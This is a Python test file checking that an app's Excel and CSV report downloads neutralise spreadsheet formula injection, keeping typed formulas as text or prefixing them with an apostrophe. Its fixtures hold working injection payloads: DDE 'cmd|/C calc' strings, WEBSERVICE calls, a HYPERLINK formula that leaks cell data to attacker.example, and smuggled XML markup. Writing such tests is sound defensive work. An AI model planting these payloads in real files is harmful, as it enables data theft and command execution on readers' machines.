"""Text someone typed that a spreadsheet would run as a formula (=WEBSERVICE(...), =cmd|...) stays text in every
Excel and CSV download: in Excel a text cell, never a formula; in CSV behind an apostrophe, as OWASP's guidance on
CSV injection has it. Numbers and dates keep their types."""

import csv
import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date

import pytest

from app.exports import csv_zip
from app.exports.spreadsheet import Book, write_table
from app.exports.tables import Column, Kind, Table
from tests.exports.conftest import YEAR_2025, csv_tables, fetch, period_url, workbook
from tests.exports.test_downloads import issue

MEETING = '=WEBSERVICE("http://127.0.0.1:5105/ws")'
FOLLOW_UP = '=HYPERLINK("http://attacker.example/?leak="&A1,"Details")'
NOTE = "-1+cmd|' /C calc'!A0"
AREA = "=cmd|' /C calc'!A0"
LINE = "@SUM(1+1)*cmd|' /C calc'!A0"
PILLAR = "\t=1+1"
PLAN_TITLE = "\r=2+3"
PLAN_LABEL = "+2024-2028"

#: Where each typed formula lands: (sheet, CSV file, column, text). The hostile plan has one of each row.
PERIOD_CELLS = [
    ("Areas", "areas", "Pillar", PILLAR), ("Areas", "areas", "Cooperation area", AREA),
    ("Action lines", "action-lines", "Cooperation area", AREA), ("Action lines", "action-lines", "Action line", LINE),
    ("Status changes", "status-changes", "Note", NOTE), ("Meetings", "meetings", "Meeting", MEETING),
    ("Follow-ups", "follow-ups", "Follow-up", FOLLOW_UP),
]
PORTFOLIO_CELLS = [
    ("Coverage", "coverage", "Plan", PLAN_LABEL), ("Areas", "areas", "Pillar", PILLAR),
    ("Areas", "areas", "Area", AREA),
]
PORTFOLIO_ARGS = "as_of-day=31&as_of-month=12&as_of-year=2025"


@pytest.fixture
def hostile(make):
    """ASEAN–Pakistan with a plan whose every name, note and title a person typed as a formula."""
    author = make.user(name="Aisyah Rahman")
    pakistan = make.partnership()
    plan = make.plan(pakistan, label=PLAN_LABEL, title=PLAN_TITLE)
    area = make.area(plan, make.pillar(plan, PILLAR, 1), "1.1", AREA)
    make.action_line(area, "1.1.1", text=LINE)
    make.status_update(author, area=area, status="on_track", as_of=date(2025, 6, 1), note=NOTE)
    make.meeting(pakistan, held_on=date(2025, 4, 2), title=MEETING, areas=[area])
    make.follow_up(pakistan, title=FOLLOW_UP, opened_on=date(2025, 4, 2), due_on=date(2026, 1, 31))
    return plan


@dataclass
class Download:
    url: Callable[[str], str]
    #: The cells that hold what was typed, as in PERIOD_CELLS.
    cells: list[tuple[str, str, str, str]]
    #: Period reports open on an overview sheet, with the plan's title.
    has_overview: bool


@pytest.fixture(params=["period", "issued", "portfolio"])
def download(request, signed_in, hostile) -> Download:
    if request.param == "portfolio":
        return Download(lambda format: f"/reports/portfolio/{format}?{PORTFOLIO_ARGS}", PORTFOLIO_CELLS, False)
    if request.param == "issued":
        issued_id = issue(signed_in, hostile).id
        return Download(lambda format: f"/reports/{issued_id}/{format}", PERIOD_CELLS, True)
    return Download(lambda format: period_url(hostile, format, **YEAR_2025), PERIOD_CELLS, True)


def formulas(data: bytes) -> list[tuple[str, bytes]]:
    """(sheet, <f> element) of every formula in the workbook's sheets, read from the raw XML rather than through
    openpyxl, the library that wrote them."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets
        return [(name, formula) for name in sheets
                for formula in re.findall(rb"<f[\s>/].*?(?:</f>|/>)", archive.read(name))]


def first_row(sheet) -> dict:
    """The cells under the header row, by heading."""
    header, row = list(sheet.iter_rows(max_row=2))
    return {heading.value: cell for heading, cell in zip(header, row, strict=True)}


def test_excel_writes_typed_formulas_as_text_cells(signed_in, download):
    data = fetch(signed_in, download.url("xlsx")).data
    assert formulas(data) == []
    book = workbook(data)
    for sheet, _file, column, text in download.cells:
        cell = first_row(book[sheet])[column]
        assert (cell.value, cell.data_type) == (text, "s"), (sheet, column)
    action_lines = first_row(book["Areas"])["Action lines"]
    assert (action_lines.value, action_lines.data_type) == (1, "n")
    if download.has_overview:
        plan = next(value for label, value in book["Overview"].iter_rows(max_col=2) if label.value == "Plan")
        # A carriage return is written as the line feed that breaks a line in a cell.
        assert plan.data_type == "s" and plan.value.startswith("\n=2+3")
        assert first_row(book["Meetings"])["Date"].is_date


def test_csv_cells_that_would_start_a_formula_begin_with_an_apostrophe(signed_in, download):
    tables = csv_tables(fetch(signed_in, download.url("csv")).data)
    for _sheet, file, column, text in download.cells:
        assert tables[file][0][column] == f"'{text}", (file, column)
    assert tables["areas"][0]["Action lines"] == "1"


VALUES = Table("Values", "values", [Column("Text"), Column("Number", Kind.NUMBER)], [
    ["-1+cmd|' /C calc'!A0", -3],
    ["-3", -2.5],
    ["=1+1", 0],
    ["+44 20 7946 0000", None],
    ["2.5", 7],
    ["@SUM(1+1)", None],
    ["\t=1+1", None],
    ["\r=1+1", None],
    ["Trade = growth", None],
])


def test_csv_leaves_real_numbers_alone_and_quotes_the_rest():
    rows = list(csv.reader(io.StringIO(csv_zip.table_csv(VALUES))))
    assert rows == [
        ["Text", "Number"],
        ["'-1+cmd|' /C calc'!A0", "-3"],
        ["-3", "-2.5"],
        ["'=1+1", "0"],
        ["'+44 20 7946 0000", ""],
        ["2.5", "7"],
        ["'@SUM(1+1)", ""],
        ["'\t=1+1", ""],
        ["'\r=1+1", ""],
        ["Trade = growth", ""],
    ]


def test_excel_keeps_negative_numbers_as_numbers_and_text_as_text():
    book = Book()
    write_table(book, VALUES)
    data = book.file()
    assert formulas(data) == []
    sheet = workbook(data)["Values"]
    assert [(cell.value, cell.data_type) for row in sheet.iter_rows(min_row=2, max_row=4) for cell in row] == [
        ("-1+cmd|' /C calc'!A0", "s"), (-3, "n"), ("-3", "s"), (-2.5, "n"), ("=1+1", "s"), (0, "n"),
    ]


def test_excel_writes_text_that_looks_like_the_files_own_markup_as_text():
    """XlsxWriter takes a string between <r> and </r> for rich text already written as the file's XML: typed
    into a title, it must stay the text typed, not become part of the file (here, a formula)."""
    typed = '<r><t>x</t></r></is><f>WEBSERVICE("http://attacker.example/")</f><is><r><t>y</t></r>'
    book = Book()
    # Long text wraps (a cell format), short text has none: both ways of writing a cell.
    write_table(book, Table("Values", "values", [Column("Text")], [[typed], ["<r>Budget</r>"], ["<r>"], ["</r>"]]))
    data = book.file()
    assert formulas(data) == []
    sheet = workbook(data)["Values"]
    assert [(cell.value, cell.data_type) for (cell,) in sheet.iter_rows(min_row=2)] == [
        (typed, "s"), ("<r>Budget</r>", "s"), ("<r>", "s"), ("</r>", "s"),
    ]
